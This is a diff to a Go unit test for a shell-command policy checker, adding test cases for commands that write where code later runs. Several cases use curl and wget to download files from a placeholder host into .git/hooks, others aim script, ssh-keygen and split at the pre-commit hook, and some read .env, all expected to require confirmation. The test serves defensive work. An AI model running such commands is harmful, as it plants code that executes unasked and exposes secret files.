@@ -12,7 +12,7 @@ import (
 // show that everyday forms stay allowed.
 func TestPolicyRound4Paths(t *testing.T) {
 	w, _, _ := policyWorkspace(t)
-	rules := CommandRules{AllowReadOnly: true, Allow: []string{"mkdir", "tee", "touch", "patch", "echo", "git config", "sort", "shuf", "cp", "mv", "ln", "install", "tsc", "eslint", "prettier", "gradle", "npx vitest", "jest", "npm test"}}
+	rules := CommandRules{AllowReadOnly: true, Allow: []string{"mkdir", "tee", "touch", "patch", "echo", "git config", "sort", "shuf", "cp", "mv", "ln", "install", "tsc", "eslint", "prettier", "gradle", "npx vitest", "jest", "npm test", "curl", "wget", "script", "ssh-keygen", "split", "bat"}}
 	for _, tc := range []struct {
 		cmd     string
 		want    Decision
@@ -69,6 +69,17 @@ func TestPolicyRound4Paths(t *testing.T) {
 		{"eslint sub", Allow, "allowed"},
 		{"npx vitest run", Allow, "allowed"},
 		{"npm test -w sub", Allow, "allowed"},
+		// Downloads into a directory, session logs, and unknown tools'
+		// operands write where code runs later.
+		{"curl --output-dir .git/hooks -O http://x/pre-commit", Confirm, ".git/hooks/pre-commit"},
+		{"curl --output-dir .git/hooks -o pre-commit http://x/a", Confirm, ".git/hooks/pre-commit"},
+		{"wget -P .git/hooks http://x/pre-commit", Confirm, ".git/hooks/pre-commit"},
+		{"script .git/hooks/pre-commit", Confirm, ".git/hooks/pre-commit"},
+		{"ssh-keygen -f .git/hooks/pre-commit -N ''", Confirm, ".git/hooks/pre-commit"},
+		{"split -b 1k notes.txt .git/hooks/pre-", Confirm, ".git/hooks/pre-"},
+		{"curl --output-dir dl -O http://x/a.json", Allow, "allowed"},
+		{"wget -P dl http://x/a.json", Allow, "allowed"},
+		{"bat notes.txt", Allow, "allowed"},
 		// The random source decides the order shown.
 		{"sort -R --random-source=.env notes.txt", Confirm, ".env"},
 		{"shuf --random-source .env notes.txt", Confirm, ".env"},
